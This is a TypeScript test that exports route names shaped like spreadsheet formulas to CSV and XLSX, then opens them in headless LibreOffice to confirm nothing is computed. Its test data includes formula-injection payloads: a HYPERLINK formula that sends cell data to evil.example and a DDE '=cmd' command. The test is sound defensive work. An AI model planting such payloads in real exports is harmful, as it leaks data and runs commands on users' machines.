import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { promisify } from 'node:util';
import { findProgram, needProgram } from '../../scripts/services/install.ts';
import type { ExportAnswer } from '../../src/features/exports/answer.ts';
import { newId, serviceEvents } from '../support/service-events.ts';
import { ownEngine } from '../support/shared-store.ts';
import { openTestService, type TestService } from '../support/test-service.ts';

// `npm run test:office`: LibreOffice opens exported files whose texts look like formulas. It must compute nothing, and show every text. It
// installs LibreOffice (300 MB), so the suite does without.

const texts = [
  '=HYPERLINK("http://evil.example/?x="&A1,"₦ click")',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '=cmd|"/c calc"!A1',
  'Ìbàdàn → Ọ̀yọ́ ₦',
];
const ASK_EVERY_MS = 200;
const tell = (line: string) => process.stderr.write(`${line}\n`);

const office = await needProgram(() => findProgram('soffice'), {
  what: 'LibreOffice',
  packages: ['libreoffice-calc-nogui'],
  tell,
});
const directory = mkdtempSync(join(tmpdir(), 'openride-office-'));
const service = await openTestService({ ...ownEngine, SCHEDULED_JOBS: 'on' });
let isRight = true;
try {
  const routes = texts.map((route_name) =>
    serviceEvents.routeCreated('2026-01-05T08:00:00Z', { route_id: newId(), route_name }),
  );
  await service.post(JSON.stringify(routes));
  for (const format of ['csv', 'xlsx'] as const) {
    const sheet = await openByOffice(await exportRoutes(service, format), format);
    const faults = faultsOf(sheet);
    isRight &&= faults.length === 0;
    process.stdout.write(`${format}: ${faults.length === 0 ? 'every text is a text' : faults.join('; ')}\n`);
  }
} finally {
  await service.remove();
  rmSync(directory, { recursive: true, force: true });
}
process.exit(isRight ? 0 : 1);

/** Exports the routes and returns the file. */
async function exportRoutes({ url }: TestService, format: 'csv' | 'xlsx'): Promise<Buffer> {
  const query = {
    family: 'route',
    from: '2026-01-01',
    to: '2026-02-01',
    columns: ['route_name', 'base_price'],
  };
  const ordered = await fetch(`${url}/v1/exports`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ of: 'events', query, format }),
  });
  let made = (await ordered.json()) as ExportAnswer;
  while (made.status === 'queued' || made.status === 'running') {
    await delay(ASK_EVERY_MS);
    made = (await (await fetch(`${url}/v1/exports/${made.id}`)).json()) as ExportAnswer;
  }
  if (made.file === null) throw new Error(`The export is ${made.status}: ${JSON.stringify(made.error)}`);
  return Buffer.from(await (await fetch(made.file.url)).arrayBuffer());
}

/** Opens the file by LibreOffice, as a double click does, and returns the sheets as it holds them (flat OpenDocument). */
async function openByOffice(file: Buffer, format: string): Promise<string> {
  const path = join(directory, `routes-${format}.${format}`);
  writeFileSync(path, file);
  // Text in UTF-8 with commas, every cell as it is typed: the mode in which a formula would be computed.
  const reading = format === 'csv' ? ['--infilter=CSV:44,34,76,1,,0,false,false,true'] : [];
  const args = ['--headless', `-env:UserInstallation=file://${join(directory, 'profile')}`, ...reading];
  await promisify(execFile)(office, [...args, '--convert-to', 'fods', '--outdir', directory, path]);
  const converted = join(directory, `routes-${format}.fods`);
  if (!existsSync(converted)) throw new Error(`LibreOffice did not open the ${format} file.`);
  return readFileSync(converted, 'utf8');
}

/** A cell that is computed has a formula, a link an address; and each text must be seen, with the apostrophe before it or without. */
function faultsOf(sheet: string): string[] {
  const formulas = [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(
    ([, formula]) => `computes ${formula}`,
  );
  const links = [...sheet.matchAll(/xlink:href="(http:\/\/evil[^"]*)"/g)].map(
    ([, link]) => `links to ${link}`,
  );
  const shown = new Set([...sheet.matchAll(/<text:p>(.*?)<\/text:p>/g)].map(([, text]) => plain(text!)));
  const missing = texts.filter((text) => !shown.has(text) && !shown.has(`'${text}`));
  return [...formulas, ...links, ...missing.map((text) => `does not show ${text}`)];
}

function plain(xml: string): string {
  return xml
    .replaceAll(/<[^>]+>/g, '')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&');
}
